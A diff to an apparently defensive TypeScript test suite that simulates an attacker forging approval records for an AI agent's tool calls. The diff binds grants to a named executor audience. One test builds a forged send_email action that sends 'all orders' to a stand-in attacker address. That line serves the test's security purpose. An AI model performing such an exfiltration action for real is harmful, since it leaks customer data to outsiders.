@@ -56,7 +56,12 @@ describe("an attacker with write access to the decision topic", () => {
     await publisher.publish({ ...testRegistration("pay-bot"), keys: [key.registered] });
     await publisher.close();
     await waitUntil("registration", async () => pipeline.validators[0]?.registrationVersion("pay-bot") === 1);
-    agent = await MandateAgent.connect({ ...connection, agentId: "pay-bot", signingKey: key.signingKey });
+    agent = await MandateAgent.connect({
+      ...connection,
+      agentId: "pay-bot",
+      executorGroup: `executor-${database}`,
+      signingKey: key.signingKey,
+    });
     unexecuted = await agent.propose({ tool: "lookup_order", operation: "read", arguments: { order_id: "A-3" } });
     late = await agent.propose({ tool: "lookup_order", operation: "read", arguments: { order_id: "A-7" } });
     expect([unexecuted.verdict, late.verdict]).toEqual(["approved", "approved"]);
@@ -103,7 +108,12 @@ describe("an attacker with write access to the decision topic", () => {
       arguments_json: JSON.stringify({ to: "attacker@evil.example", body: "all orders" }),
       tool: "send_email",
     };
-    const grant = { action_hash: actionHash(action), agent_id: action.agent_id, expires_at: Date.now() + 60_000 };
+    const grant = {
+      action_hash: actionHash(action),
+      agent_id: action.agent_id,
+      expires_at: Date.now() + 60_000,
+      audience: `executor-${database}`,
+    };
     const unsigned: DecisionRecord = {
       ...late,
       decision_id: crypto.randomUUID(),
